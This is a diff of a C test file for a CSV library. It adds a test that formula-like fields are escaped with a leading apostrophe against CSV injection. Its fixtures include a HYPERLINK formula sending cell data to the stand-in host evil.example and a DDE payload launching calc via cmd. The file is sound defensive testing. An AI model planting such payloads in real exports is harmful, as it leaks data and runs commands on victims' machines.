@@ -1,8 +1,8 @@
 /* CSV reading and writing (csvio.c over libcsv): BOM, CRLF and LF, quoted
  * fields with commas, doubled quotes and line breaks (and the line numbers
  * of the records after them), empty files, a 10,000-column row, invalid
- * UTF-8, malformed quoting, records across the 64 KiB read blocks, and the
- * writer read back by the reader. */
+ * UTF-8, malformed quoting, records across the 64 KiB read blocks, the
+ * writer read back by the reader, and the apostrophe before a formula. */
 #include "base/common.h"
 #include "core/csvio.h"
 #include "base/strbuf.h"
@@ -394,6 +394,68 @@ static void test_writer_bom_field(void)
 	strbuf_release(&c.out);
 }
 
+/*
+ * Formulas (OWASP CSV injection): a field that Excel or LibreOffice would
+ * run is written with an apostrophe in front, and the reader takes it off.
+ */
+static void test_writer_formulas(void)
+{
+	static const struct {
+		const char *field, *written;
+	} cases[] = {
+		{ "=HYPERLINK(\"https://evil.example/?\"&A3,\"Click\")",
+		  "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A3,\"\"Click\"\")\"" },
+		{ "=1+1", "'=1+1" },
+		{ "+33 1 23 45 67 89", "'+33 1 23 45 67 89" },
+		{ "-2+3", "'-2+3" },
+		{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+		{ "\t=1+1", "\"'\t=1+1\"" },
+		{ "\r=1+1", "\"'\r=1+1\"" },
+		{ "-bob@example.org", "'-bob@example.org" },
+		{ "=cmd|' /C calc'!A0@example.org", "'=cmd|' /C calc'!A0@example.org" },
+		{ "'=1+1", "''=1+1" },		/* else it would read back as =1+1 */
+		{ "''-x", "'''-x" },
+		{ "'quoted'", "'quoted'" },	/* no formula after the apostrophe: as it is */
+		{ "'", "'" },
+		{ "a=b", "a=b" },
+		{ "Anne-Marie", "Anne-Marie" },
+	};
+	static const struct {
+		const char *csv, *want;
+	} reads[] = {
+		{ "'=1+1\r\n", "1:=1+1\n" },
+		{ "''=1+1\r\n", "1:'=1+1\n" },
+		{ "\"'@x\",'-1,'+1,\"'\t\"\r\n", "1:@x|-1|+1|\t\n" },
+		{ "'x,'',' =1\r\n", "1:'x|''|' =1\n" },
+	};
+	struct strbuf out = STRBUF_INIT, want = STRBUF_INIT;
+	struct collect c = { STRBUF_INIT, 0, 0, 0 };
+	size_t i;
+
+	for (i = 0; i < ARRAY_SIZE(cases); i++) {
+		strbuf_reset(&out);
+		csvio_add_field(&out, cases[i].field, 1);
+		is_str(out.buf, cases[i].written, "formula guard: field %zu written", i + 1);
+	}
+	strbuf_reset(&out);
+	strbuf_addstr(&want, "1:");
+	for (i = 0; i < ARRAY_SIZE(cases); i++) {
+		csvio_add_field(&out, cases[i].field, i == 0);
+		strbuf_addf(&want, "%s%s", i ? "|" : "", cases[i].field);
+	}
+	csvio_end_record(&out);
+	strbuf_addch(&want, '\n');
+	is_int(parse(out.buf, out.len, &c), 1, "the guarded fields read back as one record");
+	is_str(c.out.buf, want.buf, "  each exactly as it was before the guard");
+	for (i = 0; i < ARRAY_SIZE(reads); i++) {
+		is_int(parse(reads[i].csv, strlen(reads[i].csv), &c), 1, "hand-written apostrophes %zu: one record", i + 1);
+		is_str(c.out.buf, reads[i].want, "  one apostrophe off before a formula character only");
+	}
+	strbuf_release(&out);
+	strbuf_release(&want);
+	strbuf_release(&c.out);
+}
+
 int main(void)
 {
 	set_report_routine(capture);
@@ -408,6 +470,7 @@ int main(void)
 	test_utf8();
 	test_writer();
 	test_writer_bom_field();
+	test_writer_formulas();
 	strbuf_release(&last_error);
 	return tap_done();
 }
